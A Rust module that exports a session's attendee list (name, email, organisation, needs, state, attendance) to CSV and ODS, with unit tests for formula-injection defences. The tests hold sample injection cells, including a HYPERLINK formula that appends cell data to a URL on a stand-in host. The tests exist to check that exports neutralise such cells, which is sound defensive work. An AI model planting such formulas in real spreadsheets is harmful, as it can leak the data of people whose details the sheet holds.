//! Attendee lists as CSV, ODS, XLSX and JSON. A session's list is bounded by its size, so it is
//! built in memory, with the crate's writers in `crate::export` (CSV with BOM and neutralised
//! formulas; ODS and XLSX cells typed as text, never a formula).

use crate::i18n::{Lang, sessions_admin as texts};
use inspraak_domain::session::{CancelReason, RegistrationState};
use inspraak_store::sessions::RegistrationRow;

/// The label of a sign-up's state.
pub fn state_label(lang: Lang, row: &RegistrationRow) -> &'static str {
    let t = texts::texts(lang);
    match (row.state, row.cancel_reason) {
        (RegistrationState::Pending, _) => t.state_pending,
        (RegistrationState::Confirmed, _) => t.state_confirmed,
        (RegistrationState::Waitlisted, _) => t.state_waitlisted,
        (RegistrationState::Cancelled, Some(CancelReason::Expired)) => t.state_expired,
        (RegistrationState::Cancelled, _) => t.state_cancelled,
    }
}

/// The rows of the list: the sign-ups we still hold personal data of, header first.
pub fn table(lang: Lang, rows: &[RegistrationRow]) -> Vec<Vec<String>> {
    let t = texts::texts(lang);
    let yes_no = |b: bool| if b { t.yes } else { t.no }.to_owned();
    let mut table = vec![
        [
            t.col_name,
            t.col_email,
            t.col_organisation,
            t.col_needs,
            t.col_state,
            t.col_signed_up,
            t.col_attended,
            t.col_report,
        ]
        .map(str::to_owned)
        .to_vec(),
    ];
    for row in rows {
        let Some(person) = &row.registrant else {
            continue;
        };
        table.push(vec![
            person.name.clone(),
            person.email.clone(),
            person.organisation.clone().unwrap_or_default(),
            person.needs.clone().unwrap_or_default(),
            state_label(lang, row).to_owned(),
            lang.date_time(row.created_at),
            row.attended.map(yes_no).unwrap_or_default(),
            yes_no(person.wants_report),
        ]);
    }
    table
}

pub use crate::export::{csv, neutralise, ods};

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> Vec<Vec<String>> {
        vec![
            vec!["Naam".into(), "Organisatie".into()],
            vec![
                "=HYPERLINK(\"http://x?\"&A1)".into(),
                "De \"Club\", Utrecht\r\nregel 2".into(),
            ],
            vec!["+31 6 1234".into(), "-5".into()],
            vec!["@SUM(A1)".into(), "\tgetabd".into()],
        ]
    }

    #[test]
    fn csv_cells_that_could_run_as_formulas_are_neutralised_and_columns_kept() {
        let bytes = csv(&table()).unwrap_or_default();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes.as_slice());
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| {
                r.map(|r| r.iter().map(str::to_owned).collect())
                    .unwrap_or_default()
            })
            .collect();
        assert_eq!(rows.len(), 4);
        assert!(rows.iter().all(|r| r.len() == 2));
        assert_eq!(rows[1][0], "'=HYPERLINK(\"http://x?\"&A1)");
        assert_eq!(rows[1][1], "De \"Club\", Utrecht\r\nregel 2");
        assert_eq!(rows[2], ["'+31 6 1234", "'-5"]);
        assert_eq!(rows[3], ["'@SUM(A1)", "'\tgetabd"]);
    }

    #[test]
    fn ods_is_a_zip_with_the_mimetype_first_and_text_cells_only() {
        let bytes = ods("Deelnemers <1>", &table()).unwrap_or_default();
        // The mimetype is the first entry, stored: readable at a fixed offset.
        assert_eq!(&bytes[30..38], b"mimetype");
        assert_eq!(
            &bytes[38..38 + "application/vnd.oasis.opendocument.spreadsheet".len()],
            b"application/vnd.oasis.opendocument.spreadsheet"
        );
        let text = String::from_utf8_lossy(&bytes);
        assert!(text.contains(r#"table:name="Deelnemers &lt;1&gt;""#));
        assert!(text.contains("=HYPERLINK(&quot;http://x?&quot;&amp;A1)"));
        assert!(!text.contains("table:formula"));
    }
}
